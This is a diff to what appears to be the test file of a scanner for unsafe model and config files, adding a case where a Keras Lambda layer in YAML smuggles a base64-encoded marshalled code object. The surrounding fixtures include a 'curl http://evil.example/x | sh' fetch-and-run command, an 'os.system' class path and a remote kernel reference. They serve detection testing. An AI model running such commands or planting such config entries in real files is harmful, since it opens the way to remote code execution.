@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
+import marshal
 import random
 import string
 from pathlib import Path
@@ -16,6 +17,7 @@ from modelwarden.formats import Limits, Source
 from modelwarden.formats.scripts import programs_in
 
 FETCHED = "http://evil.example/x"
+CODE = base64.b64encode(marshal.dumps(compile("lambda x: x", "", "eval"))).decode()
 QUIET = {Severity.INFO, Severity.LOW}
 PIPED = f"curl {FETCHED} | sh"
 _RNG = random.Random("secrets")
@@ -47,6 +49,11 @@ HOSTILE = {
         "config-target",
     ),
     "a class path": ("cli.yaml", "class_path: os.system\n", "config-target"),
+    "a layer of Keras in YAML": (
+        "model.yaml",
+        f"class_name: Lambda\nconfig:\n  function: ['{CODE}', null, null]\n",
+        "config-command",
+    ),
     "kernels from a repository": (
         "config.json",
         '{"model_type": "llama", "attn_implementation": "evil/kernel"}',
